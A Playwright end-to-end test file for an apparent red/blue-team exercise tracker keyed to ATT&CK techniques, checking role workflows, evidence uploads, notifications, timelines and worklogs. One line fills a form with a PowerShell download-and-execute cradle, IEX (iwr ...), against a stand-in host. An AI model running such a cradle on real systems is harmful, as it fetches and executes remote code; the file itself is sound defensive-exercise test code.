import { expect, test, type Browser, type Page } from "@playwright/test";
import * as fs from "node:fs";
import * as path from "node:path";
import { signInAndWait, watchProblems } from "./helpers";
import { adminPassword } from "../playwright.config";

const fixture = path.resolve(__dirname, "../../server/tests/fixtures/attack-mini.json");
const password = "workflow-e2e-password";
const roles = ["red_tech", "blue_tech", "red_lead", "blue_lead", "viewer"] as const;
type Role = (typeof roles)[number];
const user = (role: Role) => `wf_${role}`;

test.describe.configure({ mode: "serial" });

/** Loads the ATT&CK fixture and creates one user per role, through the REST API. */
test.beforeAll(async ({ request }) => {
  const login = await request.post("/api/v1/auth/login", { data: { username: "admin", password: adminPassword } });
  expect(login.status()).toBe(200);
  const token = (await login.json()).access_token as string;
  const headers = { Authorization: `Bearer ${token}` };
  const imported = await request.post("/api/v1/system/import-attack-bundle", {
    headers,
    multipart: { file: { name: "attack-mini.json", mimeType: "application/json", buffer: fs.readFileSync(fixture) } },
  });
  expect(imported.status()).toBe(200);
  for (const role of roles) {
    const created = await request.post("/api/v1/users", {
      headers,
      data: { username: user(role), password, role, display_name: `WF ${role}` },
    });
    expect([201, 409]).toContain(created.status());
  }
});

async function as(browser: Browser, role: Role): Promise<{ page: Page; problems: string[] }> {
  const context = await browser.newContext({ acceptDownloads: true });
  const page = await context.newPage();
  const problems = watchProblems(page);
  await signInAndWait(page, user(role), password);
  return { page, problems };
}

async function open(page: Page, url: string) {
  await page.goto(url, { waitUntil: "networkidle" });
}

/** Clicks `button` and waits until the page shows the test's next version. */
async function saves(page: Page, button: string) {
  const version = Number(await page.locator("#test-version").getAttribute("data-version"));
  await page.locator(button).click();
  await expect(page.locator("#test-version")).toHaveAttribute("data-version", String(version + 1));
}

async function act(page: Page, action: string) {
  await saves(page, `#test-actions button[data-action="${action}"]`);
}

async function createTest(page: Page, title: string, technique: string, redAssignee?: Role): Promise<string> {
  await open(page, "/tests");
  await page.locator("#new-test").click();
  await page.waitForLoadState("networkidle");
  await page.locator("#new-title").fill(title);
  await page.locator("#technique-search").fill(technique);
  await page.locator(`#technique-matches button[data-technique="${technique}"]`).click();
  await expect(page.locator("#chosen-technique")).toHaveText(`Chosen: ${technique}`);
  await page.locator("#new-objective").fill("Verify detection");
  if (redAssignee) {
    await page.locator("#field-assigned_red_id").selectOption({ label: `WF ${redAssignee} (Red Team Technician)` });
  }
  await page.locator("#create-test").click();
  await expect(page).toHaveURL(/\/tests\/[0-9a-f-]{36}$/);
  await expect(page.locator("#test-title")).toHaveText(title);
  return page.url();
}

async function upload(page: Page, team: "red" | "blue", name: string, text: string) {
  await page.locator(`#${team}-evidence-file`).setInputFiles({ name, mimeType: "text/plain", buffer: Buffer.from(text) });
  await page.locator(`#${team}-evidence-description`).fill(`${team} proof`);
  await page.locator(`form.evidence-upload[data-team="${team}"] button[type="submit"]`).click();
  await expect(page.locator(`#${team}-evidence [data-evidence="${name}"]`)).toBeVisible();
}

/** The matrix's count of tests for `technique` (0 when it shows none). */
async function testCount(page: Page, technique: string): Promise<number> {
  await open(page, "/matrix");
  const label = page.locator(`[data-technique="${technique}"] .test-count`);
  if ((await label.count()) === 0) return 0;
  return Number.parseInt((await label.textContent()) ?? "0", 10);
}

test("five roles take a test from draft to validated, with evidence, notifications and coverage", async ({ browser }) => {
  const redLead = await as(browser, "red_lead");
  const testsBefore = await testCount(redLead.page, "T1059.001");
  const url = await createTest(redLead.page, "PowerShell cradle download", "T1059.001", "red_tech");
  await expect(redLead.page.locator('#test-state [data-state="draft"]')).toBeVisible();
  await expect(redLead.page.locator("#field-assigned_red_id")).toHaveValue(/[0-9a-f-]{36}/);

  // Red tech: execute, document, attach evidence, submit.
  const redTech = await as(browser, "red_tech");
  await open(redTech.page, url);
  await act(redTech.page, "start_execution");
  await expect(redTech.page.locator('#test-state [data-state="red_executing"]')).toBeVisible();
  await expect(redTech.page.locator("#test-timer")).toHaveAttribute("data-status", "running");
  await expect(redTech.page.locator("#tab-panel")).toHaveAttribute("data-tab", "red");
  await redTech.page.locator("#field-tool_used").fill("Invoke-WebRequest");
  await redTech.page.locator("#field-command_executed").fill("IEX (iwr 'https://example.test/a.ps1')");
  await redTech.page.locator("#field-attacker_ip").fill("10.10.10.100");
  await saves(redTech.page, '#red-form button[type="submit"]');
  await expect(redTech.page.locator("#field-tool_used")).toHaveValue("Invoke-WebRequest");
  await upload(redTech.page, "red", "red-run.txt", "red team output");
  const download = redTech.page.waitForEvent("download");
  await redTech.page.locator('#red-evidence [data-evidence="red-run.txt"] button').click();
  expect((await download).suggestedFilename()).toBe("red-run.txt");
  await act(redTech.page, "submit_red");
  await expect(redTech.page.locator('#test-state [data-state="blue_evaluating"]')).toBeVisible();

  // Blue tech: told by the bell, evaluates, attaches evidence, submits.
  const blueTech = await as(browser, "blue_tech");
  await expect(blueTech.page.locator("#notification-count")).toHaveText("1");
  await blueTech.page.locator("#notification-bell").click();
  await blueTech.page.locator("#notification-panel .notification").first().click();
  await expect(blueTech.page).toHaveURL(url);
  await blueTech.page.waitForLoadState("networkidle");
  await expect(blueTech.page.locator("#tab-panel")).toHaveAttribute("data-tab", "blue");
  await blueTech.page.locator("#field-detection_result").selectOption("detected");
  await blueTech.page.locator("#field-time_to_detect_seconds").fill("47");
  await saves(blueTech.page, '#blue-form button[type="submit"]');
  await expect(blueTech.page.locator("#field-time_to_detect_seconds")).toHaveValue("47");
  await upload(blueTech.page, "blue", "siem-alert.txt", "alert fired");
  await act(blueTech.page, "submit_blue");
  await expect(blueTech.page.locator('#test-state [data-state="in_review"]')).toBeVisible();

  // Both leads approve.
  await open(redLead.page, url);
  await expect(redLead.page.locator("#tab-panel")).toHaveAttribute("data-tab", "validation");
  await redLead.page.locator("#red-vote-notes").fill("Execution was clean");
  await saves(redLead.page, '#red-validation button[data-vote-action="approve"]');
  await expect(redLead.page.locator('#red-validation [data-vote="approved"]')).toBeVisible();
  await expect(redLead.page.locator('#test-state [data-state="in_review"]')).toBeVisible();
  const blueLead = await as(browser, "blue_lead");
  await open(blueLead.page, url);
  await saves(blueLead.page, '#blue-validation button[data-vote-action="approve"]');
  await expect(blueLead.page.locator('#test-state [data-state="validated"]')).toBeVisible();

  // The technique turns validated on the matrix; the creator's bell says so.
  await open(blueLead.page, "/matrix");
  await expect(blueLead.page.locator('[data-technique="T1059.001"]')).toHaveAttribute("data-status", "validated");
  await expect(blueLead.page.locator('[data-technique="T1059.001"] .test-count')).toHaveText(
    `${testsBefore + 1} test${testsBefore === 0 ? "" : "s"}`,
  );
  await open(redLead.page, "/tests");
  await redLead.page.locator("#notification-bell").click();
  await expect(redLead.page.locator("#notification-panel")).toContainText("was validated");
  await expect(redLead.page.locator("#notification-panel")).toContainText("is ready for validation");
  // The assignee too.
  await open(redTech.page, "/tests");
  await redTech.page.locator("#notification-bell").click();
  await expect(redTech.page.locator("#notification-panel")).toContainText("was validated");

  for (const who of [redLead, redTech, blueTech, blueLead]) expect(who.problems).toEqual([]);
});

test("a rejected test is reopened and its timeline tells the whole story; a viewer changes nothing", async ({ browser }) => {
  const redLead = await as(browser, "red_lead");
  const url = await createTest(redLead.page, "Unix shell reverse shell", "T1059.004");
  const redTech = await as(browser, "red_tech");
  await open(redTech.page, url);
  await act(redTech.page, "start_execution");
  await saves(redTech.page, '#test-timer button[data-action="pause_timer"]');
  await expect(redTech.page.locator("#test-timer")).toHaveAttribute("data-status", "paused");
  await saves(redTech.page, '#test-timer button[data-action="resume_timer"]');
  await expect(redTech.page.locator("#test-timer")).toHaveAttribute("data-status", "running");
  await act(redTech.page, "submit_red");
  await expect(redTech.page.locator('#test-state [data-state="blue_evaluating"]')).toBeVisible();
  const blueTech = await as(browser, "blue_tech");
  await open(blueTech.page, url);
  await blueTech.page.locator("#field-detection_result").selectOption("not_detected");
  await saves(blueTech.page, '#blue-form button[type="submit"]');
  await expect(blueTech.page.locator("#field-detection_result")).toHaveValue("not_detected");
  await act(blueTech.page, "submit_blue");
  await expect(blueTech.page.locator('#test-state [data-state="in_review"]')).toBeVisible();

  const blueLead = await as(browser, "blue_lead");
  await open(blueLead.page, url);
  await blueLead.page.locator("#blue-vote-notes").fill("No alert in the SIEM");
  await saves(blueLead.page, '#blue-validation button[data-vote-action="reject"]');
  await expect(blueLead.page.locator('#test-state [data-state="rejected"]')).toBeVisible();
  await act(blueLead.page, "reopen");
  await expect(blueLead.page.locator('#test-state [data-state="draft"]')).toBeVisible();

  await blueLead.page.locator("#tab-timeline").click();
  const timeline = blueLead.page.locator("#timeline li");
  await expect(timeline.first()).toContainText("Created the test");
  const story = await timeline.allTextContents();
  const text = story.join("\n");
  for (const line of [
    "Moved from draft to red_executing",
    "Paused the timer",
    "Resumed the timer",
    "Moved from red_executing to blue_evaluating",
    "Edited the blue team's fields: detection_result",
    "Moved from blue_evaluating to in_review",
    "blue side rejected: No alert in the SIEM",
    "Moved from in_review to rejected",
    "Moved from rejected to draft",
  ]) {
    expect(text).toContain(line);
  }

  // The viewer sees everything and can change nothing.
  const viewer = await as(browser, "viewer");
  await open(viewer.page, url);
  await expect(viewer.page.locator("#test-title")).toHaveText("Unix shell reverse shell");
  await expect(viewer.page.locator("#test-actions button")).toHaveCount(0);
  await expect(viewer.page.locator("#general-form")).toHaveCount(0);
  await viewer.page.locator("#tab-red").click();
  await expect(viewer.page.locator("#red-form")).toHaveCount(0);
  await expect(viewer.page.locator("form.evidence-upload")).toHaveCount(0);
  await viewer.page.locator("#tab-validation").click();
  await expect(viewer.page.locator("#validation-form, [data-vote-action]")).toHaveCount(0);
  await viewer.page.locator("#tab-timeline").click();
  await expect(viewer.page.locator("#timeline li").first()).toContainText("Created the test");
  await open(viewer.page, "/tests");
  await expect(viewer.page.locator("#new-test")).toHaveCount(0);
  await expect(viewer.page.locator('#state-counters [data-state="draft"] [data-count]')).not.toHaveText("0");

  for (const who of [redLead, redTech, blueTech, blueLead, viewer]) expect(who.problems).toEqual([]);
});

test("a red tech logs work on a test; the worklog tab totals it, the timeline tells it, and the author corrects and deletes entries", async ({
  page,
  request,
}) => {
  const login = await request.post("/api/v1/auth/login", { data: { username: "admin", password: adminPassword } });
  const headers = { Authorization: `Bearer ${(await login.json()).access_token}` };
  const created = await request.post("/api/v1/users", {
    headers,
    data: { username: "worklog_red", password, role: "red_tech", display_name: "Worklog Red" },
  });
  expect([201, 409]).toContain(created.status());
  const test = await (
    await request.post("/api/v1/tests", { headers, data: { title: "Worklog drill", technique_id: "T1059" } })
  ).json();

  const problems = watchProblems(page);
  await signInAndWait(page, "worklog_red", password);
  await page.goto(`/tests/${test.id}`, { waitUntil: "networkidle" });
  await page.locator("#tab-worklog").click();
  await expect(page.locator("#worklog-empty")).toBeVisible();
  for (const [minutes, note] of [
    ["90", "Built the payload"],
    ["25", "Ran it on the lab host"],
  ]) {
    await page.locator("#worklog-minutes").fill(minutes);
    await page.locator("#worklog-note").fill(note);
    await page.locator("#worklog-submit").click();
    await expect(page.locator("#worklog li", { hasText: note })).toBeVisible();
  }
  await expect(page.locator("#worklog-total")).toHaveAttribute("data-minutes", "115");
  await expect(page.locator("#worklog-total")).toContainText("1 h 55 min logged in 2 entries");
  // Bad input says what is wrong, next to the field.
  await page.locator("#worklog-minutes").fill("10");
  await page.locator("#worklog-started").fill("2999-01-01T09:00");
  await page.locator("#worklog-submit").click();
  await expect(page.locator('#worklog-form .field-error[data-field="started_at"]')).toContainText("Cannot start in the future");
  await expect(page.locator("#worklog li")).toHaveCount(2);

  // The author corrects an entry in place.
  const built = page.locator("#worklog li", { hasText: "Built the payload" });
  await built.getByRole("button", { name: "Edit" }).click();
  await built.locator('.worklog-edit input[name="minutes"]').fill("80");
  await built.locator(".worklog-edit").getByRole("button", { name: "Save" }).click();
  await expect(page.locator("#worklog-total")).toHaveAttribute("data-minutes", "105");
  await page.locator("#worklog li", { hasText: "Ran it on the lab host" }).getByRole("button", { name: "Delete" }).click();
  await expect(page.locator("#worklog li")).toHaveCount(1);
  await expect(page.locator("#worklog-total")).toHaveAttribute("data-minutes", "80");
  await page.locator("#tab-timeline").click();
  await expect(page.locator("#timeline")).toContainText("Logged 1 h 30 min: Built the payload");
  await expect(page.locator("#timeline")).toContainText("Corrected a worklog entry to 1 h 20 min: Built the payload");
  await expect(page.locator("#timeline")).toContainText("Deleted a worklog entry of 25 min");
  expect(problems).toEqual([]);
});
